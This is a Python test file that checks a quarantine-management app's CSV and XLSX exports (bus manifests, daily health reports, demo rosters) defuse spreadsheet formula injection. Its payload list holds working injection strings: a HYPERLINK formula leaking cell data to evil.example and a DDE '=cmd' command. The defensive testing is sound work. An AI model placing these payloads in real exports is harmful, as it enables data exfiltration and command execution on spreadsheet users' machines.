"""Every CSV and XLSX the app writes keeps text as text: names or notes that a spreadsheet would run
as formulas (=HYPERLINK(...), =cmd|' /C calc'!A0, +, -, @, tab, CR) are written so none runs."""
from __future__ import annotations

import csv
import io
import random
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from quarantine.localtime import local_today
from quarantine.models import PlanRun
from quarantine.spreadsheets import append_row, csv_bytes, csv_cell
from tests.app.health_helpers import admin, policy14, room, settle, tower  # noqa: F401  (fixtures)
from tests.app.transfer_helpers import add_people, make_batch

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1)",
            "\t=1+1", "\r=1+1"]


def no_formulas(xlsx: bytes) -> None:
    """No cell of any sheet is a formula, in the file's own XML (not only as openpyxl reads it)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_defuses_formula_starts(payload):
    assert csv_cell(payload) == "'" + payload
    assert csv_cell("张三") == "张三" and csv_cell(12) == 12 and csv_cell(-3) == -3


@pytest.mark.parametrize("write_only", [False, True], ids=["sheet", "write-only-sheet"])
def test_xlsx_cells_keep_the_text_and_never_run(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    append_row(sheet, PAYLOADS + ["plain", 5])
    out = io.BytesIO()
    book.save(out)
    no_formulas(out.getvalue())
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=True))
    assert list(row) == [p.replace("\r", "\n") for p in PAYLOADS] + ["plain", 5]  # XML keeps no bare CR


def test_bus_manifests_csv_and_xlsx_keep_hostile_names_as_text(db, make_site, signed_in):
    make_site("Fixed", ready=True)
    batch = make_batch(db)
    people = add_people(db, batch, 4)
    for person, payload in zip(people, PAYLOADS):
        person.name, person.phone = payload, "=1+1"
    db.session.commit()
    client = signed_in("hq")
    client.post("/transfers/plan", data={"batches": [batch.id], "time_limit": 5})
    run = db.session.scalar(select(PlanRun))
    assert client.post(f"/transfers/plans/{run.id}/commit").status_code == 302

    body = client.get(f"/transfers/plans/{run.id}/manifests.csv").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sum(c.startswith("'=") for c in cells) >= 6  # four names and their phones

    xlsx = client.get(f"/transfers/plans/{run.id}/manifests.xlsx").data
    no_formulas(xlsx)
    names = {row[3] for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2, values_only=True)}
    assert names == set(PAYLOADS[:4])


def test_daily_report_xlsx_keeps_what_a_site_manager_typed_as_text(db, tower, admin, make_person, signed_in):
    from quarantine.health import routine
    settle(make_person, tower, "A-101", admin, arrived=local_today(), name="=cmd|' /C calc'!A0")
    routine.record_health_round(tower, local_today(), "breakfast", True, "@SUM(A1)", '=HYPERLINK("x","y")', admin)
    client = signed_in("site_manager", sites=[tower])
    response = client.get(f"/health/sites/{tower.id}/report.xlsx")
    assert response.status_code == 200
    no_formulas(response.data)
    rounds = list(load_workbook(io.BytesIO(response.data))["Health rounds"].iter_rows(min_row=2, values_only=True))
    assert rounds[0][2:] == ("@SUM(A1)", '=HYPERLINK("x","y")')


def test_demo_roster_and_csv_helper_write_no_formulas():
    from quarantine.demo import demo_roster_xlsx
    no_formulas(demo_roster_xlsx(random.Random(1), 5))
    body = csv_bytes(["=a"], [["-1", 2]]).decode("utf-8-sig")
    assert body.splitlines() == ["'=a", "'-1,2"]
